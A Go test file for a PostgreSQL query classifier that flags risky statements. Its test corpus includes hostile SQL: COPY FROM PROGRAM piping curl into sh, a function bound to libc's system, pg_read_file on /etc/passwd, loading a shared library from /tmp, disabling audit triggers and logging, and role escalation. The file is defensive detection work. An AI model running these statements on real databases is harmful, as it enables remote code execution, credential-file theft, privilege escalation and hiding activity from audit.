package sqlparse

import (
	"reflect"
	"slices"
	"strings"
	"testing"
)

// want is what a classification must show. Flags must be exactly the listed set; nil
// slices are not checked.
type want struct {
	kind      string
	command   string
	tables    []string
	flags     Flag
	funcs     []string
	columns   []string
	writes    []string
	variables []string
}

var corpus = []struct {
	sql string
	w   want
}{
	// Ordinary traffic.
	{"SELECT 1", want{kind: KindSelect, command: "SELECT", tables: []string{}}},
	{"select id, email from users where id = $1", want{kind: KindSelect, tables: []string{"users"}, columns: []string{"id", "email"}}},
	{"SELECT u.email FROM public.users u JOIN orders o ON o.user_id = u.id", want{kind: KindSelect, tables: []string{"public.users", "orders"}, columns: []string{"u.email", "o.user_id", "u.id"}}},
	{`SELECT * FROM "Users"`, want{kind: KindSelect, tables: []string{"Users"}, columns: []string{"*"}}},
	{`SELECT * FROM U&"\0075sers"`, want{kind: KindSelect, tables: []string{"users"}}},
	{`SELECT * FROM USERS`, want{kind: KindSelect, tables: []string{"users"}}},
	{"SELECT * FROM a WHERE id IN (SELECT a_id FROM b)", want{kind: KindSelect, tables: []string{"a", "b"}}},
	{"WITH x AS (SELECT * FROM t) SELECT * FROM x", want{kind: KindSelect, tables: []string{"t"}}},
	{"WITH t AS (SELECT * FROM t) SELECT * FROM t", want{kind: KindSelect, tables: []string{"t"}}},
	{"SELECT * FROM payroll, (WITH payroll AS (SELECT 1) SELECT * FROM payroll) s", want{kind: KindSelect, tables: []string{"payroll"}}},
	{"WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r WHERE n < 5) SELECT * FROM r", want{kind: KindSelect, tables: []string{}}},
	{"SELECT lower(name), count(*) FROM t GROUP BY 1", want{kind: KindSelect, funcs: []string{"lower", "count"}}},
	{"SELECT * FROM t FOR UPDATE", want{kind: KindSelect, tables: []string{"t"}}},
	{"INSERT INTO t (a, b) VALUES (1, 2)", want{kind: KindInsert, tables: []string{"t"}, writes: []string{"t"}, columns: []string{"a", "b"}}},
	{"INSERT INTO t SELECT * FROM s ON CONFLICT (id) DO UPDATE SET a = excluded.a", want{kind: KindInsert, tables: []string{"t", "s"}, writes: []string{"t"}}},
	{"UPDATE t SET a = 1 WHERE id = 5", want{kind: KindUpdate, tables: []string{"t"}, writes: []string{"t"}, columns: []string{"a", "id"}}},
	{"UPDATE t SET a = s.a FROM s WHERE t.id = s.id", want{kind: KindUpdate, tables: []string{"t", "s"}}},
	{"DELETE FROM t WHERE id = 5", want{kind: KindDelete, tables: []string{"t"}}},
	{"DELETE FROM t WHERE created_at < now() - interval '30 days'", want{kind: KindDelete}},
	{"DELETE FROM t USING s WHERE t.id = s.id", want{kind: KindDelete, tables: []string{"t", "s"}}},
	{"DELETE FROM t WHERE id IN (SELECT id FROM s)", want{kind: KindDelete}},
	{"DELETE FROM t WHERE EXISTS (SELECT 1 FROM s WHERE s.tid = t.id)", want{kind: KindDelete}},
	{"UPDATE t SET a = 1 WHERE CURRENT OF c", want{kind: KindUpdate}},
	{"DELETE FROM t WHERE id = 5 AND 1 = 1", want{kind: KindDelete}},
	{"BEGIN", want{kind: KindTxn, command: "BEGIN"}},
	{"COMMIT", want{kind: KindTxn}},
	{"ROLLBACK", want{kind: KindTxn}},
	{"SAVEPOINT s1", want{kind: KindTxn}},
	{"RELEASE SAVEPOINT s1", want{kind: KindTxn}},
	{"SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", want{kind: KindTxn}},
	{"SET statement_timeout = '5s'", want{kind: KindSet, variables: []string{"statement_timeout"}}},
	{"SET application_name TO 'x'", want{kind: KindSet, variables: []string{"application_name"}}},
	{"SET search_path TO app, public", want{kind: KindSet, variables: []string{"search_path"}}},
	{"RESET statement_timeout", want{kind: KindSet, command: "RESET"}},
	{"SHOW search_path", want{kind: KindOther, command: "SHOW"}},
	{"", want{kind: KindOther}},
	{"-- just a comment", want{kind: KindOther}},

	// Empty or tautological WHERE.
	{"DELETE FROM t", want{kind: KindDelete, flags: FlagNoEffectiveWhere}},
	{"UPDATE t SET a = 1", want{kind: KindUpdate, flags: FlagNoEffectiveWhere}},
	{"DELETE FROM t WHERE true", want{kind: KindDelete, flags: FlagNoEffectiveWhere}},
	{"DELETE FROM t WHERE 1=1", want{kind: KindDelete, flags: FlagNoEffectiveWhere}},
	{"DELETE FROM t WHERE 'a'='a'", want{kind: KindDelete, flags: FlagNoEffectiveWhere}},
	{"DELETE FROM t WHERE id=id", want{kind: KindDelete, flags: FlagNoEffectiveWhere}},
	{"DELETE FROM t WHERE t.id = t.id", want{kind: KindDelete, flags: FlagNoEffectiveWhere}},
	{"DELETE FROM t WHERE id = 5 OR true", want{kind: KindDelete, flags: FlagNoEffectiveWhere}},
	{"DELETE FROM t WHERE NOT false", want{kind: KindDelete, flags: FlagNoEffectiveWhere}},
	{"DELETE FROM t WHERE id IS NOT NULL OR id IS NULL", want{kind: KindDelete, flags: FlagNoEffectiveWhere}},
	{"DELETE FROM t WHERE 2 > 1", want{kind: KindDelete, flags: FlagNoEffectiveWhere}},
	{"DELETE FROM t WHERE 1+1 = 2", want{kind: KindDelete, flags: FlagNoEffectiveWhere}},
	{"DELETE FROM t WHERE 't'::boolean", want{kind: KindDelete, flags: FlagNoEffectiveWhere}},
	{"DELETE FROM t WHERE 1::bool", want{kind: KindDelete, flags: FlagNoEffectiveWhere}},
	{"DELETE FROM t WHERE now() > '2000-01-01'", want{kind: KindDelete, flags: FlagNoEffectiveWhere}},
	{"DELETE FROM t WHERE $1", want{kind: KindDelete, flags: FlagNoEffectiveWhere}},
	{"DELETE FROM t WHERE id = 5 OR $1", want{kind: KindDelete, flags: FlagNoEffectiveWhere}},
	{"DELETE FROM t WHERE EXISTS (SELECT 1 FROM s)", want{kind: KindDelete, flags: FlagNoEffectiveWhere}},
	{"DELETE FROM t WHERE id > 0 OR id <= 0", want{kind: KindDelete, flags: FlagNoEffectiveWhere}},
	{"DELETE FROM t WHERE name LIKE '%'", want{kind: KindDelete, flags: FlagNoEffectiveWhere}},
	{"DELETE FROM t WHERE id IN (id, 1)", want{kind: KindDelete, flags: FlagNoEffectiveWhere}},
	{"DELETE FROM t WHERE id BETWEEN id AND id", want{kind: KindDelete, flags: FlagNoEffectiveWhere}},
	{"DELETE FROM t WHERE id IS NOT DISTINCT FROM id", want{kind: KindDelete, flags: FlagNoEffectiveWhere}},
	{"DELETE FROM t WHERE NOT (id <> id)", want{kind: KindDelete, flags: FlagNoEffectiveWhere}},
	{"DELETE FROM t WHERE coalesce(a, 0) = coalesce(a, 0)", want{kind: KindDelete, flags: FlagNoEffectiveWhere}},
	{"DELETE FROM t WHERE (a = 1) OR NOT (a = 1)", want{kind: KindDelete, flags: FlagNoEffectiveWhere}},
	{"DELETE FROM t WHERE (id = id) IS TRUE", want{kind: KindDelete, flags: FlagNoEffectiveWhere}},
	{"UPDATE t SET a = 1 FROM s", want{kind: KindUpdate, flags: FlagNoEffectiveWhere}},
	{"UPDATE t SET a = 1 WHERE id IN (SELECT id FROM t)", want{kind: KindUpdate, flags: FlagNoEffectiveWhere}},
	{"DELETE FROM t WHERE t.id = ANY (SELECT id FROM t)", want{kind: KindDelete, flags: FlagNoEffectiveWhere}},
	{"DELETE FROM t WHERE id IN (SELECT id FROM t WHERE a > 1)", want{kind: KindDelete}},
	{"DELETE FROM t WHERE id IN (SELECT id FROM s)", want{kind: KindDelete}},

	// What a statement really does.
	{"WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", want{kind: KindDelete, command: "SELECT", tables: []string{"t"}, writes: []string{"t"}, flags: FlagNoEffectiveWhere}},
	{"WITH u AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING *) SELECT * FROM u", want{kind: KindUpdate, writes: []string{"t"}}},
	{"EXPLAIN ANALYZE DELETE FROM t", want{kind: KindDelete, command: "EXPLAIN ANALYZE", writes: []string{"t"}, flags: FlagNoEffectiveWhere}},
	{"EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1", want{kind: KindUpdate, command: "EXPLAIN ANALYZE", flags: FlagNoEffectiveWhere}},
	{"EXPLAIN (ANALYZE off) DELETE FROM t", want{kind: KindOther, command: "EXPLAIN", tables: []string{"t"}, writes: []string{}}},
	{"EXPLAIN DELETE FROM t", want{kind: KindOther, command: "EXPLAIN", tables: []string{"t"}}},
	{"SELECT * INTO newt FROM t", want{kind: KindDDL, command: "SELECT INTO", tables: []string{"newt", "t"}, writes: []string{"newt"}}},
	{"CREATE TABLE copy AS SELECT * FROM users", want{kind: KindDDL, command: "CREATE TABLE AS", tables: []string{"copy", "users"}, writes: []string{"copy"}}},
	{"CREATE MATERIALIZED VIEW mv AS SELECT * FROM users", want{kind: KindDDL, command: "CREATE MATERIALIZED VIEW"}},
	{"PREPARE p AS DELETE FROM t", want{kind: KindDelete, command: "PREPARE", flags: FlagNoEffectiveWhere}},
	{"PREPARE p(int) AS SELECT * FROM t WHERE id = $1", want{kind: KindSelect, command: "PREPARE"}},
	{"EXECUTE p(1)", want{kind: KindOther, command: "EXECUTE", flags: FlagUnknownBody}},
	{"DO $$ BEGIN DELETE FROM t; END $$", want{kind: KindOther, command: "DO", flags: FlagDynamicSQL | FlagNoEffectiveWhere, tables: []string{"t"}}},
	{"DO LANGUAGE plpython3u $$ import os $$", want{kind: KindOther, flags: FlagDynamicSQL | FlagUntrustedLanguage}},
	{"COPY t TO STDOUT", want{kind: KindCopy, tables: []string{"t"}}},
	{"COPY t (a, b) FROM STDIN WITH (FORMAT csv)", want{kind: KindCopy, writes: []string{"t"}, columns: []string{"a", "b"}}},
	{"COPY (SELECT * FROM users) TO STDOUT", want{kind: KindCopy, tables: []string{"users"}}},
	{"COPY t FROM '/etc/passwd'", want{kind: KindCopy, flags: FlagServerFileAccess}},
	{"COPY t TO '/tmp/out.csv'", want{kind: KindCopy, flags: FlagServerFileAccess}},
	{"COPY t FROM PROGRAM 'curl http://x | sh'", want{kind: KindCopy, flags: FlagServerProgram}},
	{"COPY (SELECT 1) TO PROGRAM 'id'", want{kind: KindCopy, flags: FlagServerProgram}},
	{"MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a", want{kind: KindMerge, tables: []string{"t", "s"}, writes: []string{"t"}}},
	{"MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE", want{kind: KindMerge, flags: FlagNoEffectiveWhere}},
	{"MERGE INTO t USING s ON 1=1 WHEN MATCHED AND t.a > 1 THEN DELETE", want{kind: KindMerge}},
	{"MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE", want{kind: KindMerge, flags: FlagNoEffectiveWhere}},
	{"MERGE INTO t USING s ON true WHEN NOT MATCHED THEN INSERT VALUES (1)", want{kind: KindMerge}},

	// Schema, privileges, code.
	{"DROP TABLE users", want{kind: KindDDL, command: "DROP TABLE", tables: []string{"users"}, flags: FlagDrop}},
	{"DROP TABLE IF EXISTS app.a, b CASCADE", want{kind: KindDDL, tables: []string{"app.a", "b"}, flags: FlagDrop}},
	{"DROP SCHEMA app CASCADE", want{kind: KindDDL, command: "DROP SCHEMA", flags: FlagDrop}},
	{"DROP DATABASE prod", want{kind: KindDDL, command: "DROP DATABASE", flags: FlagDrop}},
	{"DROP OWNED BY bob", want{kind: KindDDL, flags: FlagDrop | FlagRoleChange}},
	{"TRUNCATE users", want{kind: KindTruncate, tables: []string{"users"}, writes: []string{"users"}}},
	{"TRUNCATE TABLE a, b RESTART IDENTITY", want{kind: KindTruncate, tables: []string{"a", "b"}}},
	{"CREATE TABLE t (id int primary key, email text)", want{kind: KindDDL, command: "CREATE TABLE", writes: []string{"t"}}},
	{"CREATE INDEX CONCURRENTLY i ON t (a)", want{kind: KindDDL, command: "CREATE INDEX"}},
	{"ALTER TABLE t ADD COLUMN c int", want{kind: KindDDL, command: "ALTER TABLE", writes: []string{"t"}}},
	{"ALTER TABLE t DROP COLUMN email", want{kind: KindDDL, flags: FlagDropColumn, columns: []string{"email"}}},
	{"ALTER TABLE t ALTER COLUMN id TYPE bigint", want{kind: KindDDL, flags: FlagAlterColumnType}},
	{"ALTER TABLE t OWNER TO bob", want{kind: KindDDL, flags: FlagPrivilegeChange}},
	{"GRANT SELECT ON users TO bob", want{kind: KindDCL, command: "GRANT", flags: FlagPrivilegeChange}},
	{"REVOKE ALL ON users FROM public", want{kind: KindDCL, command: "REVOKE", flags: FlagPrivilegeChange}},
	{"GRANT admin TO bob", want{kind: KindDCL, command: "GRANT ROLE", flags: FlagRoleChange}},
	{"CREATE ROLE eve LOGIN SUPERUSER", want{kind: KindDCL, flags: FlagRoleChange}},
	{"ALTER ROLE bob SUPERUSER", want{kind: KindDCL, flags: FlagRoleChange}},
	{"ALTER USER bob WITH PASSWORD 'x'", want{kind: KindDCL, flags: FlagRoleChange}},
	{"DROP ROLE bob", want{kind: KindDCL, flags: FlagRoleChange}},
	{"ALTER ROLE bob SET role = 'admin'", want{kind: KindDCL, flags: FlagRoleChange | FlagIdentityChange}},
	{"CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", want{kind: KindDDL, command: "CREATE FUNCTION", flags: FlagCodeDefinition}},
	{"CREATE FUNCTION f() RETURNS text LANGUAGE plpython3u AS 'import os; return os.popen(\"id\").read()'", want{kind: KindDDL, flags: FlagCodeDefinition | FlagUntrustedLanguage}},
	{"CREATE FUNCTION sys(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6', 'system' LANGUAGE C STRICT", want{kind: KindDDL, flags: FlagCodeDefinition | FlagUntrustedLanguage}},
	{"CREATE OR REPLACE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", want{kind: KindDDL, flags: FlagCodeDefinition | FlagDynamicSQL}},
	{"CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $$", want{kind: KindDDL, flags: FlagCodeDefinition | FlagServerFileAccess}},
	{"CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ SELECT pg_terminate_backend(1) $$", want{kind: KindDDL, flags: FlagCodeDefinition | FlagBackendControl}},
	{"CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC SELECT 1; END", want{kind: KindDDL, command: "CREATE PROCEDURE", flags: FlagCodeDefinition}},
	{"CREATE FUNCTION f() RETURNS int LANGUAGE sql SET role = 'admin' AS 'SELECT 1'", want{kind: KindDDL, flags: FlagCodeDefinition | FlagIdentityChange}},
	{"CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", want{kind: KindDDL, command: "CREATE TRIGGER", flags: FlagCodeDefinition}},
	{"CREATE RULE r AS ON INSERT TO t DO ALSO NOTIFY t", want{kind: KindDDL, command: "CREATE RULE", flags: FlagCodeDefinition}},
	{"CREATE OPERATOR !!! (RIGHTARG = text, FUNCTION = pg_read_file)", want{kind: KindDDL, flags: FlagCodeDefinition | FlagServerFileAccess}},
	{"CREATE LANGUAGE plperlu", want{kind: KindDDL, flags: FlagExtension | FlagCodeDefinition | FlagUntrustedLanguage}},
	{"CREATE EXTENSION dblink", want{kind: KindDDL, command: "CREATE EXTENSION", flags: FlagExtension}},
	{"ALTER SYSTEM SET log_statement = 'none'", want{kind: KindDDL, command: "ALTER SYSTEM", flags: FlagServerConfig | FlagSessionEscape}},
	{"LOAD '/tmp/evil.so'", want{kind: KindOther, flags: FlagServerFileAccess}},
	{"CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil')", want{kind: KindDDL, flags: FlagRemoteAccess}},
	{"LOCK TABLE t IN ACCESS EXCLUSIVE MODE", want{kind: KindOther, command: "LOCK", tables: []string{"t"}}},
	{"VACUUM FULL t", want{kind: KindOther, command: "VACUUM"}},
	{"ANALYZE t", want{kind: KindOther, command: "ANALYZE"}},
	{"CALL p(1)", want{kind: KindOther, command: "CALL", funcs: []string{"p"}}},

	// Identity and session.
	{"SET ROLE postgres", want{kind: KindSet, variables: []string{"role"}, flags: FlagIdentityChange}},
	{"SET LOCAL role postgres", want{kind: KindSet, flags: FlagIdentityChange}},
	{`SET "ROLE" TO postgres`, want{kind: KindSet, variables: []string{"role"}, flags: FlagIdentityChange}},
	{"RESET ROLE", want{kind: KindSet, flags: FlagIdentityChange}},
	{"SET SESSION AUTHORIZATION postgres", want{kind: KindSet, variables: []string{"session_authorization"}, flags: FlagIdentityChange}},
	{"RESET SESSION AUTHORIZATION", want{kind: KindSet, flags: FlagIdentityChange}},
	{"RESET ALL", want{kind: KindSet, variables: []string{"all"}, flags: FlagIdentityChange}},
	{"DISCARD ALL", want{kind: KindOther, flags: FlagIdentityChange}},
	{"SET session_replication_role = replica", want{kind: KindSet, flags: FlagSessionEscape}},
	{"SET pgaudit.log = 'none'", want{kind: KindSet, flags: FlagSessionEscape}},
	{"ALTER TABLE t DISABLE TRIGGER audit_t", want{kind: KindDDL, flags: FlagSessionEscape}},
	{"ALTER TABLE t DISABLE TRIGGER ALL", want{kind: KindDDL, flags: FlagSessionEscape}},
	{"ALTER TABLE t DISABLE TRIGGER USER", want{kind: KindDDL, flags: FlagSessionEscape}},
	{"ALTER TABLE t ENABLE REPLICA TRIGGER audit_t", want{kind: KindDDL, flags: FlagSessionEscape}},
	{"ALTER TABLE t DISABLE RULE r", want{kind: KindDDL, flags: FlagSessionEscape}},
	{"ALTER TABLE t ENABLE ALWAYS TRIGGER audit_t", want{kind: KindDDL, flags: FlagSessionEscape}},
	{"ALTER TABLE t ENABLE ALWAYS RULE r", want{kind: KindDDL, flags: FlagSessionEscape}},
	{"ALTER TABLE t ENABLE REPLICA RULE r", want{kind: KindDDL, flags: FlagSessionEscape}},
	{"ALTER TABLE t ENABLE TRIGGER audit_t", want{kind: KindDDL}},
	{"ALTER TABLE IF EXISTS ONLY public.t DISABLE TRIGGER ALL", want{kind: KindDDL, flags: FlagSessionEscape}},
	{"ALTER TABLE t DISABLE ROW LEVEL SECURITY", want{kind: KindDDL, flags: FlagSessionEscape}},
	{"ALTER TABLE t NO FORCE ROW LEVEL SECURITY", want{kind: KindDDL, flags: FlagSessionEscape}},
	{"ALTER TABLE t ENABLE TRIGGER audit_t", want{kind: KindDDL}},
	{"SELECT set_config('role', 'postgres', false)", want{kind: KindSelect, variables: []string{"role"}, flags: FlagIdentityChange}},
	{"SELECT pg_catalog.set_config('Session_Authorization', 'postgres', true)", want{kind: KindSelect, flags: FlagIdentityChange}},
	{"SELECT set_config('search_path', 'app', false)", want{kind: KindSelect, variables: []string{"search_path"}}},
	{"SELECT set_config(name, 'x', false) FROM settings", want{kind: KindSelect, flags: FlagIdentityChange}},

	// Functions with effects.
	{"SELECT pg_read_file('/etc/passwd')", want{kind: KindSelect, funcs: []string{"pg_read_file"}, flags: FlagServerFileAccess}},
	{`SELECT pg_catalog."pg_read_file"('/etc/passwd')`, want{kind: KindSelect, funcs: []string{"pg_catalog.pg_read_file"}, flags: FlagServerFileAccess}},
	{"SELECT * FROM pg_ls_dir('.')", want{kind: KindSelect, flags: FlagServerFileAccess}},
	{"SELECT lo_import('/etc/passwd')", want{kind: KindSelect, flags: FlagServerFileAccess}},
	{"SELECT pg_terminate_backend(pid) FROM pg_stat_activity", want{kind: KindSelect, flags: FlagBackendControl}},
	{"SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", want{kind: KindSelect, flags: FlagRemoteAccess | FlagDynamicSQL}},
	{"SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')", want{kind: KindSelect, flags: FlagDynamicSQL}},
	{"SELECT CAST(pg_read_file('/x') AS text)", want{kind: KindSelect, flags: FlagServerFileAccess}},
	{"SELECT pg_read_file('/x')::text", want{kind: KindSelect, flags: FlagServerFileAccess}},
	{"SELECT 'pg_read_file'::regproc", want{kind: KindSelect}},

	// Multi-statement: the worst kind, all tables and flags.
	{"SELECT 1; DELETE FROM t", want{kind: KindDelete, flags: FlagNoEffectiveWhere}},
	{"BEGIN; UPDATE t SET a = 1 WHERE id = 1; COMMIT", want{kind: KindUpdate, tables: []string{"t"}}},
	{"SELECT * FROM a; DROP TABLE b", want{kind: KindDDL, tables: []string{"a", "b"}, flags: FlagDrop}},
}

func TestClassifyCorpus(t *testing.T) {
	for _, tc := range corpus {
		info := Classify(ProtocolPostgres, tc.sql)
		if !info.Parsed {
			t.Errorf("%q: did not parse: %s", tc.sql, info.ParseError)
			continue
		}
		check(t, tc.sql, info, tc.w)
	}
}

func check(t *testing.T, sql string, info *Info, w want) {
	t.Helper()
	if info.Kind != w.kind {
		t.Errorf("%q: kind %s, want %s", sql, info.Kind, w.kind)
	}
	if info.Flags != w.flags {
		t.Errorf("%q: flags [%s], want [%s]", sql, info.Flags, w.flags)
	}
	if w.command != "" && (len(info.Statements) == 0 || info.Statements[0].Command != w.command) {
		got := ""
		if len(info.Statements) > 0 {
			got = info.Statements[0].Command
		}
		t.Errorf("%q: command %q, want %q", sql, got, w.command)
	}
	if w.tables != nil && !sameSet(info.Tables, w.tables) {
		t.Errorf("%q: tables %q, want %q", sql, info.Tables, w.tables)
	}
	var writes, funcs, cols, vars []string
	for _, s := range info.Statements {
		writes = append(writes, s.Writes...)
		funcs = append(funcs, s.Functions...)
		cols = append(cols, s.Columns...)
		vars = append(vars, s.Variables...)
	}
	for _, c := range []struct {
		what      string
		got, want []string
	}{{"writes", writes, w.writes}, {"functions", funcs, w.funcs}, {"columns", cols, w.columns}, {"variables", vars, w.variables}} {
		if c.want != nil && !sameSet(c.got, c.want) {
			t.Errorf("%q: %s %q, want %q", sql, c.what, c.got, c.want)
		}
	}
}

func sameSet(a, b []string) bool {
	if len(a) == 0 && len(b) == 0 {
		return true
	}
	a, b = slices.Clone(a), slices.Clone(b)
	slices.Sort(a)
	slices.Sort(b)
	return reflect.DeepEqual(a, b)
}

func TestUnparseable(t *testing.T) {
	for _, sql := range []string{"SELEC 1", "SELECT 'unterminated", "DELETE FROM", "\x00\x01", "SELECT * FROM t WHERE"} {
		info := Classify(ProtocolPostgres, sql)
		if info.Parsed || info.ParseError == "" || !info.Flags.Has(FlagUnparseable) || info.Kind != KindOther {
			t.Errorf("%q: %+v, want unparseable", sql, info)
		}
	}
}

func TestUnsupportedProtocol(t *testing.T) {
	info := Classify(ProtocolMySQL, "SELECT 1")
	if info.Parsed || !info.Flags.Has(FlagUnsupportedProtocol|FlagUnparseable) || !strings.Contains(info.ParseError, "mysql") {
		t.Errorf("mysql: %+v", info)
	}
}

func TestStatementsSplit(t *testing.T) {
	info := Classify(ProtocolPostgres, "select 1; /* c */ delete from t where id = 1;\nselect $$;$$")
	var got []string
	for _, s := range info.Statements {
		got = append(got, s.Text)
	}
	want := []string{"select 1", "/* c */ delete from t where id = 1", "select $$;$$"}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("statement texts %q, want %q", got, want)
	}
}

func TestFingerprintIgnoresLiterals(t *testing.T) {
	a := Classify(ProtocolPostgres, "SELECT * FROM t WHERE id = 1")
	b := Classify(ProtocolPostgres, "select *  from t where id = 42 -- x")
	c := Classify(ProtocolPostgres, "SELECT * FROM u WHERE id = 1")
	if a.Fingerprint == "" || a.Fingerprint != b.Fingerprint || a.Fingerprint == c.Fingerprint {
		t.Errorf("fingerprints %s %s %s", a.Fingerprint, b.Fingerprint, c.Fingerprint)
	}
}

func TestNormalizePostgres(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"SELECT * FROM users WHERE email = 'a@b.c' AND id = 5", "SELECT * FROM users WHERE email = $1 AND id = $2"},
		{"SELEC 'secret', 42", "SELEC $1, $2"},
		{"SELECT 'unterminated", redactedUnreadable},
	} {
		if got := NormalizePostgres(tc.in); got != tc.want {
			t.Errorf("NormalizePostgres(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestFlagNames(t *testing.T) {
	for _, n := range FlagNames() {
		f, ok := ParseFlag(n)
		if !ok || f.String() != n {
			t.Errorf("flag %q does not round-trip", n)
		}
	}
}

// TestStatementTextKeepsUnicodeSpace: a statement's text is what the server runs. PostgreSQL
// reads U+00A0 as part of an identifier, so trimming it off would record another statement.
func TestStatementTextKeepsUnicodeSpace(t *testing.T) {
	for _, sql := range []string{"SELECT 1 AS x\u00a0", "SELECT 2 AS y\u00a0; SELECT 3"} {
		for _, shared := range []bool{false, true} {
			info := classifyText(ProtocolPostgres, sql, shared)
			if !info.Parsed || len(info.Statements) == 0 {
				t.Fatalf("%q: %+v", sql, info)
			}
			if got := info.Statements[0].Text; !strings.HasSuffix(got, "\u00a0") {
				t.Errorf("%q (shared %v): first statement's text %q lost its U+00A0", sql, shared, got)
			}
		}
	}
}
